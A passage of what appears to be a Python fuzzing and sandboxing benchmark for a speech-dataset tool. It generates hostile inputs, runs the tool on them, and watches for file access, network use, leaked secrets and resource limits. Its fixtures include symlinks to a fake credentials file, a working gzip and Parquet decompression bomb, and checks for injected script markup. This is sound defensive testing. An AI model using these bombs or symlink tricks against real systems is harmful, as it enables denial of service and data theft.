    plan |= {"documents": documents if rng.random() < 0.5 else {}}
    folder = root / ".dailytalk-reindex" / rng.choice(("0001", "0002", "9" * 18))
    for state in ("backup", "after"):
        if rng.random() < 0.4:
            (folder / state).mkdir(parents=True)
            (folder / state / "whisper.json").symlink_to(stage.private / "credentials.json")
        elif rng.random() < 0.4:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / state).symlink_to(stage.private)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / rng.choice(("planned.json", "planned.json", "staged.json", "done.json"))
    path.write_bytes(as_json(plan))
    note = stage.spoil(path, plan, places=0.1) if rng.random() < 0.4 else short(plan["renames"])
    return read_then_settled(stage, root, f"{layout}, {path.name}: {note}")


def read_then_settled(stage: Stage, root: Path, note: str) -> Job:
    """Reading commands, after which every byte is as it was; then those that settle and rename."""
    rng, clips = stage.rng, (root / "audios").is_dir()
    reading: list[Any] = [
        ["check", str(root)], ["report", str(root), "--out", str(stage.out / "page.html")], ["status", str(root)],
        ["silences", str(root)], ["push", str(root), "me/x", "--tag", "v1", "--dry-run"],
        ["export", str(root), "--format", "ljspeech" if clips else "moshi", "--out", str(stage.out / "x")],
        ["plan", str(root), *EMBEDDED], ["mix", str(root), "--out", str(stage.out / "mix")],
    ]  # fmt: skip
    before: dict[str, Any] = {}

    def unchanged() -> None:
        now = {str(path): _state(path) for path in sorted(root.rglob("*"))}
        changed = [path for path in {*before, *now} if before.get(path) != now.get(path)]
        assert not changed, f"a reading command has changed {changed}"

    def reviewed() -> None:
        try:
            finish_reindex(root)
            settle(root)
            editable = open_editable(root)
            session = Session(editable, "x") if editable else None
            for name in editable.names() if editable else ():
                session.item(name)
            session and (session.items(), session.settle())
        except (DailytalkError, OSError) as error:
            Console().text(str(error))

    before |= {str(path): _state(path) for path in sorted(root.rglob("*"))}
    archived = stage.source / "theirs.zip"
    if clips and rng.random() < 0.2:
        with zipfile.ZipFile(archived, "w") as packed:
            for path in sorted(root.rglob("*")):
                if path.is_file() and not path.is_symlink():
                    packed.write(path, path.relative_to(root))
        reading = [["check", str(root)], ["silences", str(archived)], ["report", str(archived)]]
    commands = [*rng.sample(reading, 3), partial(_read_items, root), unchanged]
    writing: list[Any] = [reviewed, ["reindex", str(root)], ["reindex", str(root), "--undo"]]
    return Job([*commands, *rng.sample(writing, 3)], [], None, note, whole=True, ids=lambda home: (set(), set()))


def _state(path: Path) -> tuple[Any, ...]:
    status = path.lstat()
    return status.st_mode, status.st_size, status.st_mtime_ns, status.st_ino


def _read_items(root: Path) -> None:
    try:
        for row in open_items(root).rows():
            str(row)
    except DailytalkError as error:
        Console().text(str(error))


#: A transcript of ours of the good call.
TALK: dict[str, Any] = {
    "utterances": [
        {"channel": "right", "text": "Good morning.", "start": 0.3, "end": 1.5},
        {"channel": "left", "text": "Hello, can you help?", "start": 1.6, "end": 2.6},
    ]
}

#: Every kind of document, its weight, and what sets a case up.
KINDS: dict[str, tuple[int, Callable[[Stage], Job]]] = {
    "recording WAV": (14, partial(recording, suffix=".wav")),
    "recording FLAC": (8, partial(recording, suffix=".flac")),
    "recording OGG": (6, partial(recording, suffix=".ogg")),
    "recording MP3": (8, partial(recording, suffix=".mp3")),
    "recording Opus": (6, partial(recording, suffix=".opus")),
    "recording M4A": (10, partial(recording, suffix=".m4a")),
    "recording names": (9, names),
    "transcript JSON": (13, lambda stage: transcript(stage, ".json", TALK)),
    "transcript Moshi": (9, lambda stage: transcript(stage, ".json", {"alignments": ALIGNMENTS})),
    "transcript J-Moshi": (8, lambda stage: transcript(stage, ".json", J_MOSHI)),
    "transcript JSONL": (8, lambda stage: transcript(stage, ".jsonl", TALK["utterances"], lines=True)),
    "transcript of a run": (7, run_transcript),
    "transcript SRT": (8, lambda stage: transcript(stage, ".srt", text=SRT)),
    "transcript VTT": (9, lambda stage: transcript(stage, ".vtt", text=VTT)),
    "transcript TextGrid": (9, lambda stage: transcript(stage, ".TextGrid", text=TEXTGRID)),
    "speak transcript": (16, script),
    "speak shard": (8, tagged_shard),
    "speech cache": (3, speech_cache),
    "dataset, export": (10, partial(dataset, command="export")),
    "dataset, report": (9, partial(dataset, command="report")),
    "dataset, check": (7, partial(dataset, command="check")),
    "run.json": (6, partial(record, name="run.json")),
    "events.jsonl": (6, partial(record, name="events.jsonl")),
    "rejects.jsonl": (3, partial(record, name="rejects.jsonl")),
    "Moshi folder, check": (11, partial(moshi, command="check")),
    "Moshi folder, mix": (11, partial(moshi, command="mix")),
    "mix": (4, mix_record),
    "corpus tree": (14, tree),
    "corpus zip": (8, archive),
    "corpus work folder": (9, corpus_work),
    "published dataset": (12, published),
    "Hub dataset": (14, hub),
    "Hub version": (8, hub_version),
    "dataset, push": (6, push),
    "position.jsonl": (4, position),
    "noise folder": (3, noise),
    "listening answers": (6, answers),
    "speech server": (12, speech_server),
    "folder of edits": (12, folder_of_edits),
    "folder of plans": (6, folder_of_plans),
}


# The stock: valid documents that cases copy


def make_stock(stock: Path) -> None:
    """Write a valid document of every kind."""
    talks = short_talks(stock / "talks", 1, 1)
    samples, rate = soundfile.read(talks[0])
    calls = stock / "calls"
    calls.mkdir()
    part = np.concatenate(
        [samples[round(0.3 * rate) : round(1.7 * rate)], samples[round(4.2 * rate) : round(5.6 * rate)]]
    )
    soundfile.write(calls / "good.wav", part, rate, "PCM_16")
    (calls / "good.json").write_text(json.dumps(TALK))
    formats = stock / "formats"
    formats.mkdir()
    for suffix, kind, subtype in (
        (".wav", "WAV", "PCM_16"),
        (".flac", "FLAC", "PCM_16"),
        (".ogg", "OGG", "VORBIS"),
        (".mp3", "MP3", None),
        (".opus", "OGG", "OPUS"),
    ):
        soundfile.write(formats / f"call{suffix}", part, rate, subtype, format=kind)
    encode(formats / "call.m4a", part, rate)
    clips = stock / "clips" / "audios"
    clips.mkdir(parents=True)
    names = [f"clip_00000{number}.wav" for number in (1, 2, 5)]
    for name in names:
        soundfile.write(clips / name, part[: 2 * rate, 0], rate, "PCM_16")
    segment = {"id": 0, "start": 0.2, "end": 1.5, "text": " a"}
    texts = {name: {"text": "a", "language": "en", "segments": [segment]} for name in names}
    (clips.parent / "whisper.json").write_text(json.dumps(texts))
    tagged_folder(stock / "tagged", good=SHORT[:2], bad=SHORT[2:])
    write_dataset(stock / "dataset", [built_row("good", seconds=6.0), built_row("bad", seconds=6.0)])
    (stock / "dataset" / "run.json").write_text(json.dumps({"source": {"licence": "CC0-1.0"}}))
    export_moshi(
        [built_row(f"call{n}", kept_speaker=f"p{n}") for n in range(3)], stock / "moshi", both_speakers=True
    )
    config = stock / "moshi" / "moshi-finetune.yaml"
    config.write_text(config.read_text().replace(str(stock / "moshi"), "@HERE@"))
    rows = [clip_row(f"s1-{n}", emotion) for n, emotion in enumerate(("happy", "sad", "angry"))]
    corpus_folder(stock / "corpus_work", [*rows, clip_row("s2-0", split="validation")])
    write_published(stock / "published")
    stock_pages(stock)
    quiet_command("mix", str(stock / "corpus_work"), str(stock / "moshi"), "--out", str(stock / "mix"))
    with _environment(stock):
        warm = stock / "warm"
        (warm / "calls").mkdir(parents=True)
        shutil.copyfile(calls / "good.wav", warm / "calls" / "good.wav")
        quiet_command("tag", str(warm / "calls"), "--out", str(warm / "tagged"), *EMBEDDED)  # it recognises
        put(warm / "tree", trees()["crema_d"][0])
        options = ("--profile", "embedded", "--asr-model", "none")
        quiet_command("corpus", "crema_d", str(warm / "tree"), "--out", str(warm / "corpus"), *options)
        for command in (
            ("export", "dataset"),
            ("report", "dataset"),
            ("report", "corpus_work"),
            ("report", "mix"),
        ):
            quiet_command(command[0], str(stock / command[1]), "--out", str(warm / "-".join(command)))
        for name in ("moshi", "dataset", "published", "corpus_work"):
            quiet_command("check", str(stock / name))
        load(stock / "dataset", split="train")
        shutil.copytree(stock / "tagged", stock / "spoken")
        quiet_command("speak", str(stock / "spoken"), *EMBED)
    shutil.copytree(stock / "home" / "speech", stock / "speech_cache") if (
        stock / "home" / "speech"
    ).is_dir() else (stock / "speech_cache").mkdir()
    bomb(stock)


def stock_pages(stock: Path) -> None:
    """A listening test and the answers of two people."""
    folder = stock / "listening"
    folder.mkdir()
    page = write_listening_test(stock / "corpus_work", folder / "page.html", 3).page
    key = json.loads(key_path(page).read_text())
    key_path(page).rename(folder / "page.key.json") if key_path(page).name != "page.key.json" else None
    for number in range(2):
        chosen = {
            clip: {"emotion": ("happy", "sad")[(number + n) % 2], "style": None, "confidence": "sure"}
            for n, clip in enumerate(key["clips"])
        }
        (folder / f"answers{number}.json").write_text(
            json.dumps(
                {
                    "kind": "dailytalk listening test answers",
                    "test": key["test"],
                    "listener": f"l{number}",
                    "answers": chosen,
                }
            )
        )


def bomb(stock: Path) -> None:
    """Two gigabytes of zeros, as a stream of deflate, as a gzip file, and as sound in Parquet."""
    block = bytes(1 << 24)
    deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
    # After a full flush nothing refers back, so that the same compressed block can follow itself.
    part = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = part * (BOMB_BYTES // len(block)) + deflate.flush()
    crc = 0
    for _ in range(BOMB_BYTES // len(block)):
        crc = zlib.crc32(block, crc)
    (stock / "bomb.deflate").write_bytes(body)
    (stock / "bomb.crc").write_text(str(crc))
    header = gzip.compress(b"")[:10]
    (stock / "bomb.gz").write_bytes(header + body + struct.pack("<II", crc, BOMB_BYTES & 0xFFFFFFFF))
    zeros = {"bytes": bytes(BOMB_BYTES // 4), "path": None}
    with pq.ParquetWriter(stock / "bomb.parquet", BUILT.arrow_schema, compression="zstd") as writer:
        for number in range(4):
            row = built_row(f"bomb{number}", audio=zeros)
            writer.write_table(pa.Table.from_pylist([row], schema=BUILT.arrow_schema))


def quiet_command(*arguments: str) -> int:
    """`dailytalk` with arguments in this process; its exit code."""
    sys.argv = ["dailytalk", *arguments]
    try:
        run_command()
    except SystemExit as leave:
        return int(leave.code or 0) if isinstance(leave.code, int | None) else 1


@contextlib.contextmanager
def _environment(stock: Path) -> Iterator[None]:
    before = dict(os.environ)
    os.environ["DAILYTALK_CACHE"] = str(stock / "home")
    yield
    os.environ.clear()
    os.environ.update(before)


# The watch

#: Audit events with paths, and which of their arguments these are.
_PATHS = {
    "open": (0,), "os.listdir": (0,), "os.scandir": (0,), "os.link": (0, 1), "os.symlink": (1,),
    "os.rename": (0, 1),
    "os.remove": (0,), "os.mkdir": (0,), "os.rmdir": (0,), "os.truncate": (0,), "os.chmod": (0,), "os.chown": (0,),
    "os.utime": (0,), "os.chdir": (0,), "shutil.rmtree": (0,), "sqlite3.connect": (0,), "glob.glob": (),
}  # fmt: skip
_STARTS = ("os.exec", "os.posix_spawn", "os.system", "os.spawn", "pty.spawn", "os.startfile")
#: Events that act on a name itself, and not on what a link there leads to.
_ON_NAMES = {"os.remove", "os.rename", "os.rmdir", "os.symlink", "shutil.rmtree"}


@dataclass
class Watch:
    """Notes what this process opens, starts and connects to outside of a case, from `begin` on.

    Attributes:
        home: of the case. stock: valid documents, which shards may name. servers: whether one runs on loopback.
        opened: what was outside, in order.
    """

    home: Path
    stock: Path
    servers: bool = False
    opened: list[str] = field(default_factory=list)
    watching: bool = False

    def begin(self) -> None:
        """Watch from now on; a hook can't be taken out again."""
        home = os.path.realpath(self.home)
        self._ours = tuple(f"{home}/{name}" for name in ("in", "out", "cache", "tmp"))
        self._ours += (f"{home}/.out.conversations",)  # what `mix` works in, beside its output
        code = (
            *filter(os.path.isdir, sys.path),
            sys.prefix,
            sys.base_prefix,
            f"{ROOT}/dailytalk_contiguous",
            f"{ROOT}/tests",
            f"{ROOT}/benchmarks",
        )
        code = tuple(path for path in code if path != str(ROOT))
        self._readable = (*_SYSTEM, *map(os.path.realpath, code), os.path.realpath(self.stock))
        self._readable += (f"{home}/user/.fonts", f"{home}/user/.local/share/fonts")  # where fonts are installed
        self.watching = True
        sys.addaudithook(self._hook)

    def is_outside(self, path: str, writes: bool = False) -> bool:
        """Whether a real path is none that the command has business with."""
        allowed = self._ours if writes and path != "/dev/null" else (*self._ours, *self._readable)
        return not any(path == root or path.startswith(f"{root}/") for root in allowed)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.watching:
            return
        self.watching = False
        try:
            if event in _PATHS:
                for place in _PATHS[event]:
                    self._path(event, arguments, arguments[place])
            elif event == "subprocess.Popen":
                program = os.path.basename(os.fsdecode(arguments[0] or arguments[1][0]))
                if program not in PROGRAMS:
                    self.opened.append(f"starts {program}")
            elif event.startswith(_STARTS):
                self.opened.append(f"{event} {arguments[:2]!r}"[:300])
            elif event == "socket.connect":
                self._address(arguments[1])
        finally:
            self.watching = True

    def _path(self, event: str, arguments: tuple[Any, ...], path: Any) -> None:
        if path is None or isinstance(path, int):
            return
        text = os.fsdecode(path)
        parent, name = os.path.split(text)
        real = os.path.join(os.path.realpath(parent), name) if event in _ON_NAMES else os.path.realpath(text)
        writes = event != "open" and event not in ("os.listdir", "os.scandir", "os.chdir")
        if event == "os.link" and path is arguments[0]:
            writes = False
        if event == "open" and isinstance(arguments[2], int):
            writes = bool(arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
        imports = event == "os.listdir" and real in sys.path
        if self.is_outside(real, writes) and not imports:
            self.opened.append(f"{event} {real}")

    def _address(self, address: Any) -> None:
        loopback = isinstance(address, tuple) and address[0] in ("127.0.0.1", "localhost", "::1")
        if not (self.servers and loopback and address[1] != 9):
            self.opened.append(f"connects to {address!r}"[:300])


class Sentinel:
    """inotify on a folder: what any process opens, changes or links in it, native code too."""

    OPEN, CHANGES = 0x20, 0x2 | 0x4 | 0x40 | 0x80 | 0x100 | 0x200
    _LIBC = ctypes.CDLL(None, use_errno=True)

    def __init__(self, folder: Path) -> None:
        self._fd = self._LIBC.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if (
            self._fd < 0
            or self._LIBC.inotify_add_watch(self._fd, os.fsencode(folder), self.OPEN | self.CHANGES) < 0
        ):
            raise OSError(ctypes.get_errno(), "inotify is not there")

    def seen(self) -> list[str]:
        """What happened; ends the watch."""
        events: list[str] = []
        while select.select([self._fd], [], [], 0)[0]:
            data = os.read(self._fd, 1 << 16)
            while data:
                _, mask, _, length = struct.unpack_from("iIII", data)
                name = data[16 : 16 + length].rstrip(b"\0").decode(errors="replace")
                if mask & (self.OPEN | self.CHANGES):
                    events.append(f"{'opened' if mask & self.OPEN else 'changed or linked'} private/{name}")
                data = data[16 + length :]
        os.close(self._fd)
        return sorted(set(events))


# Running a case


@dataclass
class Verdict:
    """What came of a case; empty lists are what is wanted.

    Attributes:
        note: what was done to the document. opened: what was opened outside.
        tracebacks: last lines of each. lost: ids. wrong: exit codes, silence, control characters, markup.
        seconds, bytes: that it took, memory above the baseline.
    """

    kind: str
    number: int
    seed: int
    note: str = ""
    codes: list[int] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)
    tracebacks: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)
    wrong: list[str] = field(default_factory=list)
    limits: list[str] = field(default_factory=list)
    seconds: float = 0.0
    bytes: int = 0

    @property
    def name(self) -> str:
        """A name for a folder."""
        return f"{re.sub('[^a-z0-9]+', '-', self.kind.lower())}-{self.number:04d}"

    @property
    def good(self) -> bool:
        """Whether nothing is wrong."""
        return not (self.opened or self.tracebacks or self.lost or self.wrong or self.limits)


def prepare(home: Path, stock: Path) -> None:
    """The empty folders of a case, and its private files."""
    for name in ("in", "cache", "tmp", "user", "private"):
        (home / name).mkdir(parents=True)
    for path in (stock / "private").iterdir():
        shutil.copyfile(path, home / "private" / path.name)


def case(verdict: Verdict, home: Path, stock: Path) -> None:
    """Set up a case in this process, run it, and write the verdict into its folder. Called in a child."""
    os.chdir(home / "in")
    cache_home = dict.fromkeys(("XDG_CACHE_HOME", "XDG_CONFIG_HOME", "DAILYTALK_CACHE"), str(home / "cache"))
    os.environ |= cache_home | {"HOME": str(home / "user"), "TMPDIR": str(home / "tmp"),
                   "HF_HUB_DISABLE_TELEMETRY": "1"}  # fmt: skip
    tempfile.tempdir = str(home / "tmp")
    patch = pytest.MonkeyPatch()
    hub_fixtures._set_hub_constants(NOWHERE, home / "cache" / "hf", patch)
    hub_fixtures._set_datasets_constants(NOWHERE, home / "cache" / "hf", patch)
    for name, number in (("stdout", 1), ("stderr", 2)):
        os.dup2(os.open(home / name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), number)
    faulthandler.register(signal.SIGUSR1, (home / "stack").open("w"))
    stage = Stage(random.Random(f"{verdict.seed}/{verdict.kind}/{verdict.number}"), home, stock)
    job = KINDS[verdict.kind][1](stage)
    verdict.note = job.note
    write(verdict, home)
    watch = Watch(home, stock, job.around is not contextlib.nullcontext)
    with job.around():
        Path("/proc/self/clear_refs").write_text("5")  # the peak of memory is counted from here
        baseline = memory("VmHWM")
        (home / "begun").touch()
        watch.begin()
        started = time.monotonic()
        for command in job.commands:
            verdict.codes.append(command_code(command))
        verdict.seconds = time.monotonic() - started
        watch.watching = False
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss << 10
    verdict.bytes = max(memory("VmHWM") - baseline, children)
    verdict.opened = sorted(set(watch.opened))
    judge(verdict, job, home)
    write(verdict, home)


def memory(name: str) -> int:
    """A figure of /proc/self/status in bytes."""
    match = re.search(rf"{name}:\s+(\d+)", Path("/proc/self/status").read_text())
    assert match
    return int(match[1]) << 10


def command_code(command: Any) -> int:
    """The exit code of a command; what it raises is printed as Python prints it."""
    try:
        if callable(command):
            command()
            return 0
        return command_line(*command)
    except SystemExit as leave:
        return leave.code if isinstance(leave.code, int) else 1
    except BaseException:
        traceback.print_exc()
        return 1
    finally:
        sys.stdout.flush()
        sys.stderr.flush()


def command_line(*arguments: str) -> int:
    """`dailytalk` with arguments in this process; its exit code. Raises what the command raises."""
    sys.argv = ["dailytalk", *arguments]
    try:
        run_command()
    except SystemExit as leave:
        return leave.code if isinstance(leave.code, int) else int(leave.code is not None)


def write(verdict: Verdict, home: Path) -> None:
    """Write a verdict whole or not at all."""
    (home / "case.json.new").write_text(json.dumps(asdict(verdict), indent=1))
    (home / "case.json.new").replace(home / "case.json")


#: Sentences with which a run ends before any of its work, for the user to decide: a style tag that the synthesiser
#: would say aloud (nothing is bought until it is mapped), and a table of a corpus that tells who its clips are.
STOPS = ("--map-tag TAG=OTHER", "dailytalk: the table ")


def judge(verdict: Verdict, job: Job, home: Path) -> None:
    """What the outputs and the ids say."""
    for code in verdict.codes:
        if code not in CODES:
            verdict.wrong.append(f"exit code {code}")
    came, rejected = (job.ids or outputs)(home)
    said = "".join((home / name).read_text(errors="surrogateescape") for name in ("stdout", "stderr"))
    stopped = verdict.codes[-1] == 1 and any(sentence in said for sentence in STOPS)
    refused = (job.whole and verdict.codes[-1] == 1) or stopped
    # Damage to a whole file may have met the good row itself, which then has its reason.
    accounted = came | rejected if job.whole else came
    missing = [name for name in job.good if not any(name in identity for identity in accounted)]
    others = [identity for identity in came | rejected if not any(name in identity for name in job.good)]
    if not refused:
        verdict.lost += missing
        if job.hostile is not None and len(others) < job.hostile:
            verdict.lost.append(f"{job.hostile - len(others)} hostile")
    verdict.wrong += [f"{word!r} is not mentioned" for word in job.shown if word not in said]
    if 1 in verdict.codes and not said.strip():
        verdict.wrong.append("exit code 1 without a word")


def outputs(home: Path) -> tuple[set[str], set[str]]:
    """The ids in the shards of the output, and those of its rejects that have a reason and a remedy."""
    out = home / "out"
    came: set[str] = set()
    for path in [*out.glob("tagged/*.parquet"), *out.glob("dataset/*.parquet"), *out.glob("clips/*.parquet")]:
        if path.parent.name == "tagged" and (out / "dataset").is_dir():
            continue
        key = "conversation_id"
        came |= set(pq.read_table(path, columns=[key])[key].to_pylist())
    rejected = set()
    for path in (out / "rejects.jsonl", home / "in" / "rejects.jsonl"):
        own = path.is_file() and not path.is_symlink()  # a link is for the package to leave alone, and for us
        for line in path.read_bytes().split(b"\n") if own else []:
            with contextlib.suppress(ValueError, TypeError, KeyError, RecursionError):
                reject = json.loads(line)
                if reject["reason"] and reject["remedy"]:
                    rejected.add(reject["id"])
    return came, rejected


@dataclass
class Running:
    """A child and what it is watched with."""

    verdict: Verdict
    home: Path
    pid: int
    started: float
    sentinel: Sentinel
    baseline: int


class Bench:
    """Runs cases side by side, each in a child of this process.

    Args:
        folder: for all cases. seed: of what is done. jobs: children at a time.
        limits: seconds and bytes.
    """

    def __init__(self, folder: Path, seed: int, jobs: int, seconds: float) -> None:
        self.folder, self.seed, self.jobs, self.seconds = folder, seed, jobs, seconds
        self.stock = folder / "stock"
        self.kept = folder / "failures"
        for path in (self.stock, self.kept, folder / "cases"):
            path.mkdir(parents=True)

    def prepare(self) -> None:
        """Make the valid documents, with nothing on the terminal, and load all that a command loads."""
        private = self.stock / "private"
        private.mkdir()
        samples = tones(2.0, 16000, 2)
        (private / "private.wav").write_bytes(wav_bytes(samples, 16000))
        soundfile.write(private / "private.mp3", samples, 16000, format="MP3")
        (private / "private.txt").write_text(SECRET)
        (private / "credentials.json").write_text(json.dumps({"type": "service_account", "private_key": SECRET}))
        (private / "private.json").write_text(json.dumps({"alignments": ALIGNMENTS, "key": SECRET}))
        patch = pytest.MonkeyPatch()
        hub_fixtures._set_hub_constants(NOWHERE, self.folder / "hf", patch)
        hub_fixtures._set_datasets_constants(NOWHERE, self.folder / "hf", patch)
        with (self.folder / "stock.log").open("w") as log:
            saved = os.dup(1), os.dup(2)
            os.dup2(log.fileno(), 1), os.dup2(log.fileno(), 2)
            try:
                make_stock(self.stock)
            finally:
                sys.stdout.flush()
                os.dup2(saved[0], 1), os.dup2(saved[1], 2)

    def run(self, cases: Sequence[tuple[str, int]], finished: Callable[[Verdict], None]) -> None:
        """Run cases; `finished` gets each verdict."""
        waiting = list(reversed(cases))
        running: list[Running] = []
        while waiting or running:
            while waiting and len(running) < self.jobs:
                running.append(self._start(*waiting.pop()))
            time.sleep(0.01)
            for child in list(running):
                if self._ended(child):
                    running.remove(child)
                    finished(self._finish(child))

    def _start(self, kind: str, number: int) -> Running:
        verdict = Verdict(kind, number, self.seed)
        home = self.folder / "cases" / verdict.name
        shutil.rmtree(home, ignore_errors=True)
        prepare(home, self.stock)
        sentinel = Sentinel(home / "private")
        baseline = memory("VmRSS")
        sys.stdout.flush()
        sys.stderr.flush()
        pid = os.fork()
        if not pid:
            try:
                os.setsid()
                case(verdict, home, self.stock)
            except BaseException:
                traceback.print_exc()
                (home / "broken").write_text(traceback.format_exc())
            finally:
                with contextlib.suppress(Exception):
                    sys.stdout.flush()
                os._exit(0)
        return Running(verdict, home, pid, time.monotonic(), sentinel, baseline)

    def _ended(self, child: Running) -> bool:
        """Whether a child is gone; one that is past a limit is ended here."""
        pid, status = os.waitpid(child.pid, os.WNOHANG)
        if pid:
            if status:
                child.verdict.limits.append(f"killed by signal {os.WTERMSIG(status)}")
            return True
        took, size = time.monotonic() - child.started, _held(child.pid) - child.baseline
        begun = (child.home / "begun").exists()
        if took > 3 * self.seconds or (begun and (size > MOST_BYTES or took > self.seconds + 5)):
            what = f"over {MOST_BYTES / 1e9} GB" if size > MOST_BYTES else f"over {self.seconds:g} s"
            where = _stack(child.pid, child.home)
            with contextlib.suppress(ProcessLookupError):
                os.killpg(child.pid, signal.SIGKILL)
            os.waitpid(child.pid, 0)
            child.verdict.limits.append(f"{what}{where}")
            child.verdict.seconds, child.verdict.bytes = took, max(0, size)
            return True
        return False

    def _finish(self, child: Running) -> Verdict:
        verdict = child.verdict
        with contextlib.suppress(ProcessLookupError):
            os.killpg(child.pid, signal.SIGKILL)  # what a command left running
        noted = (
            Verdict(**json.loads((child.home / "case.json").read_text()))
            if (child.home / "case.json").exists()
            else verdict
        )
        noted.limits += verdict.limits
        noted.seconds, noted.bytes = max(noted.seconds, verdict.seconds), max(noted.bytes, verdict.bytes)
        if (child.home / "broken").exists():
            noted.wrong.append(f"the benchmark itself failed: {(child.home / 'broken').read_text()[-300:]}")
        if noted.seconds > self.seconds and not noted.limits:
            noted.limits.append(f"{noted.seconds:.0f} s")
        if noted.bytes > MOST_BYTES and not noted.limits:
            noted.limits.append(f"{noted.bytes / 1e9:.1f} GB")
        noted.opened += child.sentinel.seen()
        after(noted, child.home, self.stock)
        if noted.good:
            shutil.rmtree(child.home, ignore_errors=True)
        else:
            write(noted, child.home)
            for path in child.home.rglob("*"):  # a bomb is made again when the case is repeated
                if path.is_file() and not path.is_symlink() and path.stat().st_size > 1 << 24:
                    os.truncate(path, 1 << 16)
            shutil.rmtree(self.kept / noted.name, ignore_errors=True)
            child.home.rename(self.kept / noted.name)
        return noted


def after(verdict: Verdict, home: Path, stock: Path) -> None:
    """What is seen once a case is over: what was printed, pages, files outside, private texts that came out."""
    text = "".join(
        (home / name).read_text(errors="surrogateescape")
        for name in ("stdout", "stderr")
        if (home / name).exists()
    )
    for match in _TRACEBACK.finditer(text):
        block = text[match.start() :].split("\n\n")[0].strip().splitlines()
        places = [line.strip() for line in block if "dailytalk_contiguous/" in line and ".venv/" not in line]
        if not places and "/tests/hub/" in "".join(block):
            continue  # of the Hub on loopback, which is ours and no part of what is tried
        verdict.tracebacks.append(f"{(places or ['?'])[-1][-160:]} | {block[-1][:200]}")
    if control := _CONTROL.search(re.sub(r"\r\n", "\n", text)):
        start = max(0, control.start() - 40)
        verdict.wrong.append(f"a control character on the terminal: {text[start : control.end() + 20]!a}")
    for page in [*home.glob("out/**/*.html"), *home.glob("in/*.html")]:
        html = page.read_text(errors="replace") if page.is_file() else ""
        if "<img src=x" in html or f"<script>{SECRET[:6]}" in html:
            verdict.wrong.append(f"markup in {page.name}")
    known = {
        "in",
        "out",
        "cache",
        "tmp",
        "user",
        "private",
        "stdout",
        "stderr",
        "begun",
        "case.json",
        "broken",
        "trace",
        "stack",
    }
    if strange := {path.name for path in home.iterdir()} - known:
        verdict.opened.append(f"written beside the input: {sorted(strange)}")
    for name in ("out", "in/data_stereo"):
        for path in (home / name).rglob("*") if (home / name).is_dir() else ():
            if path.is_symlink() or not path.is_file() or path.stat().st_size > 1 << 26:
                continue
            if path.stat().st_nlink > 1 and any(path.samefile(other) for other in (home / "private").iterdir()):
                verdict.opened.append(f"{path.relative_to(home)} is a private file")
            elif SECRET.encode() in path.read_bytes():
                verdict.opened.append(f"{path.relative_to(home)} holds a private text")


def _held(pid: int) -> int:
    """Bytes of memory that a process and its children hold."""
    total = 0
    with contextlib.suppress(OSError, ValueError):
        total = int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096
        for children in Path(f"/proc/{pid}/task").glob("*/children"):
            total += sum(_held(int(child)) for child in children.read_text().split())
    return total


def _stack(pid: int, home: Path) -> str:
    """Where a process hangs or holds too much: the innermost place of each thread that is in the package."""
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGUSR1)
        time.sleep(0.3)
        threads = (home / "stack").read_text().split("\n\n")
        places = [
            re.findall(r'File ".*?(dailytalk_contiguous/[^"]+)", line (\d+) in (\S+)', part) for part in threads
        ]
        return "".join(sorted({f" in {own[0][0]}:{own[0][1]} {own[0][2]}" for own in places if own}))
    return ""


# strace

TRACED = "open,openat,openat2,creat,execve,link,linkat,connect"
_PLACE = re.compile(r'(?:(?:AT_FDCWD|\d+)<([^>]*)>, )?"((?:[^"\\]|\\.)*)"')
_CALL = re.compile(
    r"^\d+ +(?:\S+ )?(open|openat|openat2|creat|execve|link|linkat|connect)\((.*?)(?:\) += (-?\d+)|<unfinished)"
)


def traced(bench: Bench, kind: str, number: int) -> Verdict:
    """A case under strace in a process of its own; what it and its children open outside is in the verdict."""
    verdict = Verdict(kind, number, bench.seed)
    home = bench.folder / "cases" / f"{verdict.name}-traced"
    prepare(home, bench.stock)
    trace = home / "trace"
    command = [
        "strace",
        "-f",
        "-y",
        "-qq",
        "-s",
        "4096",
        "-e",
        f"trace={TRACED}",
        "-o",
        str(trace),
        sys.executable,
    ]
    command += [__file__, "--inside", str(home), "--stock", str(bench.stock), "--seed", str(bench.seed)]
    command += ["--kind", kind, "--number", str(number)]
    with contextlib.suppress(subprocess.TimeoutExpired), open(os.devnull, "r+b") as null:
        subprocess.run(command, timeout=4 * bench.seconds, check=False, stdin=null, stdout=null, stderr=null)
    watch = Watch(home, bench.stock, True)
    watch._hook = lambda *_: None  # type: ignore[method-assign]
    watch.begin()
    begun = False
    seen = set()
    ours = {
        "/.dockerenv",
        *(str(home / name) for name in ("stdout", "stderr", "begun", "case.json", "case.json.new", "stack")),
    }
    for line in trace.read_text(errors="replace").splitlines():
        begun = begun or f'"{home}/begun"' in line
        match = _CALL.match(line)
        if not begun or match is None or match[3] is None or int(match[3]) < 0:
            continue
        if match[1] == "connect":
            if "AF_INET" in match[2] and '"127.0.0.1"' not in match[2]:
                seen.add(f"strace: connect {match[2]}")
            continue
        for folder, name in _PLACE.findall(match[2]):
            path = name.encode().decode("unicode_escape").encode("latin-1").decode("utf-8", "surrogateescape")
            real = os.path.realpath(os.path.join(folder or home / "in", path))
            if real not in ours and watch.is_outside(real):
                seen.add(f"strace: {match[1]} {real}")
    if (home / "case.json").exists():
        verdict = Verdict(**json.loads((home / "case.json").read_text()))
    verdict.opened = sorted({*verdict.opened, *seen})
    return verdict


# The whole


def drawn_cases(count: int, kinds: Sequence[str]) -> list[tuple[str, int]]:
    """So many cases, spread over kinds by their weights, those of a kind far apart."""
    total = sum(KINDS[kind][0] for kind in kinds)
    cases: list[tuple[float, str, int]] = []
    for kind in kinds:
        share = max(1, round(count * KINDS[kind][0] / total))
        cases += [((number + 0.5) / share, kind, number) for number in range(share)]
    return [(kind, number) for _, kind, number in sorted(cases)]


def report(verdicts: Sequence[Verdict]) -> list[str]:
    """One table by kind, and whether the goals are met."""
    columns = {
